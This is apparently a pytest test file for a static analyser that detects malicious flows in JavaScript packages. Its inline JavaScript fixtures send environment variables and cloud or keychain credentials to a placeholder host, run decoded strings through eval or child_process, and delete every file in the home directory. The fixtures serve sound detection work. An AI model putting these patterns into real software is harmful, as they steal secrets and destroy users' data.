"""Clients made once, credentials that libraries find, functions picked by data, and addresses in parts. Inert text."""

from __future__ import annotations

import pytest

from adapters.sigil.local.code.facts import Behaviour, CodeFacts
from adapters.sigil.local.code.javascript import javascript_facts
from adapters.sigil.local.code.telling import host_of


def look(code: str) -> CodeFacts:
    return javascript_facts("index.js", code.encode())


def ways(code: str) -> set[tuple[Behaviour, Behaviour, str]]:
    return {(flow.source.behaviour, flow.sink.behaviour, flow.sink.detail) for flow in look(code).flows}


_OF = "https://e.invalid"
CLIENTS = [
    f"const c = require('axios').create({{ baseURL: '{_OF}/' }}); c.post('/x', process.env);",
    f"const a = require('axios'); a.defaults.baseURL = '{_OF}'; a.post('/x', process.env);",
    f"const c = require('axios').create({{ baseURL: '{_OF}', headers: {{ a: process.env.X_TOKEN }} }}); c.get('/x');",
    f"import got from 'got'; got.extend({{ prefixUrl: '{_OF}' }}).post('x', {{ json: process.env }});",
    f"import ky from 'ky'; ky.create({{ prefixUrl: '{_OF}' }})('x', {{ method: 'put', json: process.env }});",
    f"import {{ Pool }} from 'undici'; new Pool('{_OF}').request({{ path: '/x', method: 'PUT', body: process.env }});",
    f"import {{ GraphQLClient as G }} from 'graphql-request'; new G('{_OF}/x').request('query', {{ v: process.env }});",
    (
        f"import {{ ofetch }} from 'ofetch';\nconst c = ofetch.create({{ baseURL: '{_OF}' }});\n"
        "c('/x', { method: 'PUT', body: process.env });"
    ),
    (
        "const axios = require('axios');\nclass A { constructor(baseURL) { this.http = axios.create({ baseURL }); }\n"
        f"go(v) {{ return this.http.post('/x', {{ v }}).catch(() => 0); }} }}\nnew A('{_OF}').go(process.env);"
    ),
]


@pytest.mark.parametrize("code", CLIENTS)
def test_clients_know_where_they_speak_to(code: str) -> None:
    """A client that is made with an address sends below it, with all that it was given to take along."""
    assert ways(code) == {(Behaviour.READS_ENVIRONMENT, Behaviour.SENDS, f"{_OF}/x")}


def test_a_broker_of_messages_is_told_with_its_address() -> None:
    """What is published goes to the broker that was connected to."""
    code = "const c = require('mqtt').connect('mqtt://e.invalid'); c.publish('a', JSON.stringify(process.env));"
    assert ways(f"fetch('/own');{code}") == {(Behaviour.READS_ENVIRONMENT, Behaviour.SENDS, "mqtt://e.invalid")}


_AWAY = "fetch('https://e.invalid/', { method: 'POST', body: JSON.stringify(%s) })"


@pytest.mark.parametrize(
    ("imports", "secret"),
    [
        ("import { fromNodeProviderChain as f } from '@aws-sdk/credential-providers'", "await f()()"),
        ("import { DefaultAzureCredential as D } from '@azure/identity'", "await new D().getToken('x')"),
        ("import { GoogleAuth } from 'google-auth-library'", "await new GoogleAuth().getAccessToken()"),
        ("const k = require('keytar')", "await k.getPassword('a', 'b')"),
        ("import { Entry } from '@napi-rs/keyring'", "new Entry('a', 'b').getPassword()"),
    ],
)
def test_credentials_that_a_library_finds(imports: str, secret: str) -> None:
    """What a cloud's library or the system's keychain hands out is a secret wherever it is sent."""
    code = f"{imports};\n{_AWAY % secret}"
    assert ways(code) == {(Behaviour.READS_SECRET_FILE, Behaviour.SENDS, "https://e.invalid/")}


def test_credentials_for_a_client_of_the_cloud_say_nothing() -> None:
    """Credentials that only go into another part of the library are no fact at all."""
    code = "import { DefaultAzureCredential as D } from '@azure/identity'; import { Blob } from '@azure/storage-blob';"
    assert look(f"{code} export const blobs = new Blob('https://a.invalid', new D());").facts == ()


@pytest.mark.parametrize(
    ("code", "sink"),
    [
        ("const H = { n: console.log, r: eval }; function go(k, t) { H[k](atob(t)); }", Behaviour.RUNS_CODE),
        ("const c = require('child_process'); function go(k, t) { c[k](atob(t)); }", Behaviour.RUNS_SHELL),
        ("function go(k, t) { globalThis[k](atob(t)); }", Behaviour.RUNS_CODE),
    ],
)
def test_functions_picked_by_data(code: str, sink: Behaviour) -> None:
    """A function that is picked from a table by data may be the one that runs code."""
    assert {way[:2] for way in ways(code)} == {(Behaviour.DECODES, sink)}


def test_own_functions_picked_by_data() -> None:
    """Any function of a table may be meant by a key that is data."""
    code = "const H = { n(x) {}, r(x) { %s; } };\nfunction go(k) { H[k](JSON.stringify(process.env)); }" % (_AWAY % "x")
    assert ways(code) == {(Behaviour.READS_ENVIRONMENT, Behaviour.SENDS, "https://e.invalid/")}


def test_tables_without_anything_that_runs_code() -> None:
    """A table of functions that run nothing is no fact."""
    assert look("const H = { n: console.log }; function go(k, t) { H[k](atob(t)); }").flows == ()


def test_iterators_of_classes() -> None:
    """A loop over an object goes over what its class hands out."""
    code = (
        "const fs = require('fs'), os = require('os'), p = require('path');\nclass S { constructor(r) { this.r = r; }\n"
        "*[Symbol.iterator]() { for (const e of fs.readdirSync(this.r)) yield p.join(this.r, e); } }\n"
        "for (const e of new S(os.homedir())) fs.unlinkSync(e);"
    )
    assert {way[:2] for way in ways(code)} == {(Behaviour.LISTS_FILES, Behaviour.RUINS_FILES)}


_HOST = "https://registry.npmjs.org"
_CALL = (
    "class H { async call(p, o = {}) { const headers = { a: 'B ' + process.env.X_TOKEN };\n"
    f"return (await fetch('{_HOST}' + p, {{ ...o, headers }})).json(); }} async all(x) {{ %s }} }}"
)


@pytest.mark.parametrize(
    ("calls", "is_known"),
    [
        ("this.call('/a')", True),
        ("const { u } = await this.call('/a'); await this.call('/b' + u)", True),
        ("this.call('/b' + x)", True),
        ("this.call(x)", False),
        ("this.call('/a'); this.call(x)", False),
        ("this.call('/a'); this.call(x())", False),
        ("this.call('/a'); this.call('.e.invalid/b')", False),
        ("this.call('.e.invalid/b'); this.call('/a')", False),
        ("let p = '/a'; if (x) p = x(); this.call(p)", False),
    ],
)
def test_what_follows_a_host(calls: str, is_known: bool) -> None:
    """A host is known where all that may follow it begins with a slash; whatever else may go on with its name."""
    small = _CALL % calls
    large = small.replace("return", f"const long = '{'x' * 400}'; return")
    for code in (small, large):
        hosts = {host_of(detail) for _, behaviour, detail in ways(code) if behaviour is Behaviour.SENDS}
        assert (hosts == {"registry.npmjs.org"}) is is_known
